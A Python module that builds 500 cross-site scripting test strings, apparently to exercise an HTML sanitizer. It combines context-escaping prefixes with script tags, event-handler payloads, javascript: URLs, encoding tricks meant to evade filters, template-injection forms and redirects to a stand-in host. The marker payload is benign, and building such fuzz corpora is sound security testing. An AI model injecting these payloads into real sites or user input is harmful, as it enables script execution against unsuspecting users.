"""Five hundred short strings that would do something on a page that trusted them.

Made here from a few ideas: where markup may begin (text, attribute, comment, raw text, script,
template), what it may run, and how it may be written so that a filter does not see it. Each marks
the page where it runs: `window.ran`.
"""

from __future__ import annotations

from itertools import cycle, islice, product

RUN = "window.ran=1"
COUNT = 500

_ENDS = (
    *("", '">', "'>", "-->", "--!>", "]]>", "</p>", "</title>", "</textarea>", "</script>"),
    *("</style>", "</noscript>", "</template>", "</svg>", "</select>", "</div></main>", '\\">'),
    *('"/>', "`>", "*/", "\n>", '" autofocus ', "<!--/first-paint-->", "</article></body></html>"),
)
_BODIES = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\n>",
    f"<script src=data:,{RUN}></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x OnErRoR='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='jav&#x09;ascript:{RUN}'>x</a>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<base href=//exemple.fr/><p>{RUN}",
    "<meta http-equiv=refresh content='0;url=//exemple.fr'>",
    "<link rel=stylesheet href=//exemple.fr/x.css>",
    "<style>main{display:none}</style>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<p style=animation-name:x onanimationstart={RUN}>x</p>",
    f"<div contenteditable onfocus={RUN} tabindex=0 autofocus>x</div>",
    f"onmouseover={RUN} style=position:fixed;inset:0 ",
    f"javascript:{RUN}",
    f"${{{RUN}}}",
    f"{{{{{RUN}}}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<%= {RUN} %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"＜script＞{RUN}＜/script＞",
    f"<spplus-preview data-load=/x><img src=x onerror={RUN}></spplus-preview>",
    f"<div id=first-paint><img src=x onerror={RUN}></div>",
    f"<h1>{RUN}</h1><main>x</main>",
)

HOSTILE: tuple[str, ...] = tuple(
    end + body for end, body in islice(cycle(product(_ENDS, _BODIES)), 0, 23 * COUNT, 23)
)
"""Every pairing would be more than a thousand; a step with no common divisor takes some of each."""
